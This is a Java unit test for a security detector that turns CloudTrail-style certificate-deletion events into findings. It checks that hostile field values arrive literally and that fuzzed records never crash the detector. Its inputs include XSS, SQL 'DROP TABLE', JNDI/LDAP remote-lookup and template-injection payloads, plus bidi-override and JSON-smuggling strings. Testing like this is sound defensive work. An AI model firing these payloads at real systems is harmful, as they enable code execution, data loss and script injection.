package io.tamperwatch.detect;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.tamperwatch.event.EventRecordParser;
import io.tamperwatch.event.ParseOutcome.Parsed;
import io.tamperwatch.event.ParseOutcome.Unreadable;
import io.tamperwatch.finding.Finding;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A caller may put anything into a record: it arrives in the finding as it is, as text, and breaks nothing. */
class HostileRecordsTest {

    private static final Path CASES = Path.of("src/test/resources/golden");
    private static final int MUTANTS = Integer.getInteger("fuzz.mutants", 5_000);

    private final EventRecordParser parser = new EventRecordParser();
    private final Detector detector = TestingDetections.detector();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"quoted\" 'and' \\ back",
                "line\r\nbreak\ttab\u0001",
                "</script><script>alert(1)</script>",
                "turned \u202e around \u2066\u2069",
                "'; DROP TABLE finding; --",
                "${jndi:ldap://192.0.2.1/x} #{1+1} {{7*7}}",
                "😀\uFFFF\u2028",
                "\",\"severity\":\"info\",\"x\":\""
            })
    void arriveLiterally(String text) throws IOException {
        ObjectNode record = record("iam-signing-certificate-deleted/succeeded");
        record.put("userAgent", text)
                .put("sourceIPAddress", text)
                .put("errorCode", text)
                .put("errorMessage", text);
        record.put("recipientAccountId", text).put("awsRegion", text);
        record.putObject("requestParameters").put("userName", text).put("certificateId", text);
        record.withObject("/userIdentity")
                .put("type", text)
                .put("userName", text)
                .put("arn", text);

        JsonNode finding = TestingDetections.json(detect(record.toString()));

        assertThat(finding.at("/record")).isEqualTo(record);
        assertThat(finding.at("/severity").textValue()).isEqualTo("low");
        for (String place : List.of(
                "/origin/userAgent",
                "/origin/sourceAddress",
                "/errorCode",
                "/errorMessage",
                "/accountId",
                "/region",
                "/target/userName",
                "/target/certificateId",
                "/actor/type",
                "/actor/name",
                "/actor/arn")) {
            assertThat(finding.at(place).textValue()).as(place).isEqualTo(text);
        }
    }

    @Test
    void neverBreakTheDetector() throws IOException {
        List<ObjectNode> good = goodRecords();
        SplittableRandom random = new SplittableRandom(7);
        int found = 0;
        for (int i = 0; i < MUTANTS; i++) {
            ObjectNode record = good.get(random.nextInt(good.size())).deepCopy();
            for (int changes = 1 + random.nextInt(4); changes > 0; changes--) {
                change(record, random);
            }
            found += isFound(record) ? 1 : 0;
        }
        assertThat(found).isGreaterThan(MUTANTS / 2);
    }

    private boolean isFound(ObjectNode record) throws JsonProcessingException {
        return switch (parser.parse(record.toString())) {
            case Unreadable _ -> false;
            case Parsed(var read) -> {
                var finding = detector.detect(read, "production", null, Instant.EPOCH);
                if (finding.isPresent()) {
                    assertThat(TestingDetections.json(finding.get()).at("/record"))
                            .isEqualTo(record);
                }
                yield finding.isPresent();
            }
        };
    }

    /** Gives one member, at any depth, a value of another kind. */
    private static void change(ObjectNode record, SplittableRandom random) {
        ObjectNode at = record;
        while (true) {
            List<String> names = new ArrayList<>();
            at.fieldNames().forEachRemaining(names::add);
            names.removeAll(List.of("eventName", "eventSource", "eventTime", "eventID"));
            if (names.isEmpty()) {
                return;
            }
            String name = names.get(random.nextInt(names.size()));
            if (at.get(name) instanceof ObjectNode inner && random.nextInt(4) > 0) {
                at = inner;
            } else if (!List.of("eventName", "eventSource", "eventTime", "eventID")
                    .contains(name)) {
                at.set(name, oddValue(at, random));
                return;
            }
        }
    }

    private static JsonNode oddValue(ObjectNode nodes, SplittableRandom random) {
        return switch (random.nextInt(8)) {
            case 0 -> nodes.nullNode();
            case 1 -> nodes.numberNode(random.nextLong());
            case 2 -> nodes.booleanNode(random.nextBoolean());
            case 3 -> nodes.objectNode().put("originalEventID", "x").put("userName", "\u202e");
            case 4 -> ((ArrayNode) nodes.arrayNode()).add("a").addNull();
            case 5 -> nodes.textNode("x".repeat(random.nextInt(3000)));
            case 6 -> nodes.textNode("arn:" + ":".repeat(random.nextInt(9)) + "/".repeat(random.nextInt(9)));
            default ->
                nodes.textNode("User: a is not authorized to perform: iam:DeleteSigningCertificate on resource: "
                        + "user ".repeat(random.nextInt(500)));
        };
    }

    private Finding detect(String raw) {
        return detector.detect(((Parsed) parser.parse(raw)).record(), "production", null, Instant.EPOCH)
                .orElseThrow();
    }

    private static List<ObjectNode> goodRecords() throws IOException {
        List<ObjectNode> records = new ArrayList<>();
        for (String name :
                GoldenCasesTest.cases().filter(name -> !name.contains("silent")).toList()) {
            records.add(record(name));
        }
        return records;
    }

    private static ObjectNode record(String name) throws IOException {
        return (ObjectNode) TestingDetections.JSON.readTree(
                CASES.resolve(name).resolve("record.json").toFile());
    }
}
